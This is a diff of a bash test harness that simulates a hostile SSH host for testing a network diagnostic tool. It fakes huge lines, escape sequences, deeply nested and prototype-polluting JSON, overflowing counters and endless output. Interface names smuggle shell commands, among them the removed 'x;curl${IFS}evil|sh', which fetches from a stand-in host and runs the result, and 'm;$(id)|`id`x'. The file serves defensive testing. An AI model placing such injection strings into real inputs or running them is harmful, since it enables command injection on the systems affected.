@@ -1,30 +1,40 @@
 #!/bin/bash
-# The `hostile` profile's commands (see lab/README.md, "The hostile host"). lab.sh puts shims
-# for ip, uname, ethtool and cat in the host's bin dir (first on PATH for its SSH commands, see
-# sshd-cmdlog.sh); each runs
+# The `hostile` profile's fake commands (see lab/README.md, "The hostile host"). For a mode
+# that fakes output, lab.sh puts a shim for each command that mode fakes (--shims MODE) in the
+# host's bin dir (first on PATH for its SSH commands, see sshd-cmdlog.sh); each runs
 #   bash lab/hostile.sh MODEFILE BINDIR NAME ARGS...
 # which reads the host's current mode (one word in MODEFILE, set with `lab.sh hostile HOST
 # MODE`) and either prints what a broken or malicious host could print for that command, or
 # runs the real command. Everything else on the host is real: sshd, the login shell, the
 # framed script netdiag sends, the kernel's own interfaces.
 #
-# Modes (one per collection; the output of every command a mode does not name is real):
-#   off          everything real
-#   long-line    ip -j -s -d link show: eth0 carries a 3 MiB "ifalias" on its one line;
-#                ip -j neigh show and ip neigh show: one 3 MiB line, no newline
+# Modes that fake output (the output of every command a mode does not name is real):
+#   long-line    ip -j -s -d link show: eth0 carries a 3 MiB "ifalias" on its one line
+#                (the kernel caps a real one at 256 bytes); ip -j neigh show and
+#                ip neigh show: one 3 MiB line, no newline
 #   binary       ip link and ip addr (JSON and text): 256 KiB of NUL bytes, invalid UTF-8 and
 #                ANSI/OSC escapes; uname -n: a name with an OSC title sequence and a NUL
 #   deep-json    ip -j -s -d link show: 100,000 nested '[' (and their ']'); its text fallback
 #                ip -s -d link show: 100,000 '[' on one line
 #   proto        ip -j -s -d link show / ip -j neigh show: "__proto__" and "constructor" keys
 #                in every element, and one element whose only name is inside "__proto__"
-#   counters     ip -j -s -d link show: stats64 counters at 2^63, 2^64-1, 2^64, 2^128 and a
-#                float 1e30; an MTU of 2^32; the link speed (ethtool IF, or
+#   counters     ip -j -s -d link show: stats64 counters at 2^64, 2^128 and a float 1e30 and
+#                an MTU of 2^32 (eth0); 2^64-1, a u64 no signed 64-bit column holds (big0);
+#                2^63-1 and 12345678901234567, exact (ok0); the link speed (ethtool IF, or
 #                cat /sys/class/net/IF/speed without ethtool): 20 digits
-#   many         3,000 interfaces (one named x;curl${IFS}evil|sh) and 50,000 neighbors
-#   metachar     eth0, lo and the interface x;curl${IFS}evil|sh, up, with 192.0.2.1/24
-#   metachar-down  the same, x;curl${IFS}evil|sh down (NO-CARRIER)
 #   endless      ip -j neigh show never ends (yes); ip neigh show as well
+# Modes that are real kernel state (lab.sh hostile_net), no shim at all:
+#   off, metachar  the interface HOSTILE_IF (lab.sh: 'm;$(id)|`id`x'), up, 192.0.2.1/24
+#   metachar-down  the same without carrier (its veth peer is down)
+#   many           3,000 interfaces and 50,000 neighbor entries
+if [[ ${1:-} == --shims ]]; then
+  case ${2:-} in
+    long-line | deep-json | proto | endless) echo ip ;;
+    binary) echo ip uname ;;
+    counters) echo ip ethtool cat ;;
+  esac
+  exit 0
+fi
 set -u
 modefile=${1:?usage: hostile.sh MODEFILE BINDIR NAME ARGS...}
 bindir=${2:?}
@@ -39,7 +49,6 @@ real() { # run the real command: PATH without this host's bin dir
   exec "$name" "$@"
 }
 args="$*"
-METACHAR='x;curl${IFS}evil|sh'
 MIB3=$((3 * 1024 * 1024))
 
 # big_line N: N bytes of 'A' (no newline)
@@ -60,10 +69,10 @@ garbage() {
 }
 
 # links JSON: eth0, lo (and extras) as iproute2 prints them, from a perl generator
-# gen_links KIND: many | metachar | metachar-down | proto | counters
+# gen_links KIND: proto | counters
 gen_links() {
   perl -e '
-    my ($kind, $metachar, $eth0mac) = @ARGV;
+    my ($kind, $eth0mac) = @ARGV;
     sub link_json {
       my ($idx, $name, $state, $mac, $kindname, $stats, $extra) = @_;
       $stats //= "{\"rx\":{\"bytes\":1000,\"packets\":10,\"errors\":0,\"dropped\":0},\"tx\":{\"bytes\":2000,\"packets\":20,\"errors\":0,\"dropped\":0}}";
@@ -75,12 +84,7 @@ gen_links() {
     }
     my $lo = "{\"ifindex\":1,\"ifname\":\"lo\",\"flags\":[\"LOOPBACK\",\"UP\",\"LOWER_UP\"],\"mtu\":65536,\"operstate\":\"UNKNOWN\",\"link_type\":\"loopback\",\"address\":\"00:00:00:00:00:00\",\"stats64\":{\"rx\":{\"bytes\":100,\"packets\":1,\"errors\":0,\"dropped\":0},\"tx\":{\"bytes\":100,\"packets\":1,\"errors\":0,\"dropped\":0}}}";
     my @out = ($lo, link_json(2, "eth0", "UP", $eth0mac));
-    if ($kind eq "many") {
-      push @out, link_json(3, $metachar, "UP", "02:aa:00:00:00:03", "veth");
-      for my $i (4 .. 3000) { push @out, link_json($i, "hx$i", "UP", sprintf("02:aa:00:00:%02x:%02x", $i >> 8, $i & 255), "veth"); }
-    } elsif ($kind eq "metachar" || $kind eq "metachar-down") {
-      push @out, link_json(3, $metachar, $kind eq "metachar" ? "UP" : "DOWN", "02:aa:00:00:00:03", "veth");
-    } elsif ($kind eq "proto") {
+    if ($kind eq "proto") {
       my $p = "\"__proto__\":{\"ifname\":\"ghost\",\"mtu\":1,\"polluted\":true},\"constructor\":{\"prototype\":{\"polluted\":true}},";
       @out = map { my $s = $_; $s =~ s/^\{/{$p/; $s } @out;
       push @out, "{\"__proto__\":{\"ifname\":\"ghost2\",\"mtu\":1500}}";
@@ -91,39 +95,11 @@ gen_links() {
       $out[1] =~ s/"mtu":1500/"mtu":4294967296/;
       push @out, link_json(3, "ok0", "UP", "02:aa:00:00:00:03", "veth",
         "{\"rx\":{\"bytes\":9223372036854775807,\"packets\":12345678901234567,\"errors\":0,\"dropped\":0},\"tx\":{\"bytes\":1,\"packets\":2,\"errors\":3,\"dropped\":4}}");
+      push @out, link_json(4, "big0", "UP", "02:aa:00:00:00:04", "veth",
+        "{\"rx\":{\"bytes\":18446744073709551615,\"packets\":5,\"errors\":0,\"dropped\":0},\"tx\":{\"bytes\":6,\"packets\":7,\"errors\":0,\"dropped\":0}}");
     }
     print "[", join(",", @out), "]\n";
-  ' "$1" "$METACHAR" "$(</sys/class/net/eth0/address)"
-}
-
-# addresses JSON for the generated links
-gen_addrs() {
-  perl -e '
-    my ($kind, $metachar, $eth0) = @ARGV;
-    my $m = $metachar; $m =~ s/\\/\\\\/g; $m =~ s/"/\\"/g;
-    my @out = ("{\"ifindex\":1,\"ifname\":\"lo\",\"addr_info\":[{\"family\":\"inet\",\"local\":\"127.0.0.1\",\"prefixlen\":8}]}",
-      "{\"ifindex\":2,\"ifname\":\"eth0\",\"addr_info\":[{\"family\":\"inet\",\"local\":\"$eth0\",\"prefixlen\":24}]}",
-      "{\"ifindex\":3,\"ifname\":\"$m\",\"addr_info\":[{\"family\":\"inet\",\"local\":\"192.0.2.1\",\"prefixlen\":24}]}");
-    if ($kind eq "many") { for my $i (4 .. 3000) { push @out, "{\"ifindex\":$i,\"ifname\":\"hx$i\",\"addr_info\":[]}"; } }
-    print "[", join(",", @out), "]\n";
-  ' "$1" "$METACHAR" "$(PATH=${PATH//"$bindir:"/} ip -4 -o addr show dev eth0 | awk '{ sub(/\/.*/, "", $4); print $4; exit }')"
-}
-
-# 50,000 neighbors on the generated interfaces (JSON, or iproute2's text form)
-gen_neigh() {
-  perl -e '
-    my ($form) = @ARGV;
-    my @rows;
-    for my $i (0 .. 49999) {
-      my $ip = sprintf("10.100.%d.%d", $i >> 8, $i & 255);
-      my $mac = sprintf("02:bb:00:%02x:%02x:%02x", ($i >> 16) & 255, ($i >> 8) & 255, $i & 255);
-      my $dev = "hx" . (4 + $i % 2997);
-      push @rows, $form eq "json"
-        ? "{\"dst\":\"$ip\",\"dev\":\"$dev\",\"lladdr\":\"$mac\",\"state\":[\"STALE\"]}"
-        : "$ip dev $dev lladdr $mac STALE";
-    }
-    print $form eq "json" ? "[" . join(",", @rows) . "]\n" : join("\n", @rows) . "\n";
-  ' "$1"
+  ' "$1" "$(</sys/class/net/eth0/address)"
 }
 
 proto_neigh() { # the real neighbors, each with __proto__/constructor keys, plus a ghost
@@ -169,14 +145,6 @@ case "$mode:$name" in
     if [[ $# -eq 1 ]]; then printf 'Settings for %s:\n\tSpeed: 99999999999999999999Mb/s\n\tDuplex: Full\n\tLink detected: yes\n' "$1"; else real "$@"; fi ;;
   counters:cat)
     if [[ $# -eq 1 && $1 == /sys/class/net/*/speed ]]; then echo 99999999999999999999; else real "$@"; fi ;;
-  many:ip | metachar:ip | metachar-down:ip)
-    case $args in
-      "-j -s -d link show") gen_links "$mode" ;;
-      "-j addr show") gen_addrs "$mode" ;;
-      "-j neigh show") if [[ $mode == many ]]; then gen_neigh json; else real "$@"; fi ;;
-      "neigh show") if [[ $mode == many ]]; then gen_neigh text; else real "$@"; fi ;;
-      *) real "$@" ;;
-    esac ;;
   endless:ip)
     case $args in
       "-j neigh show" | "neigh show") exec yes '[{"dst":"10.0.0.1","dev":"eth0","lladdr":"02:00:00:00:00:01","state":["REACHABLE"]},' ;;
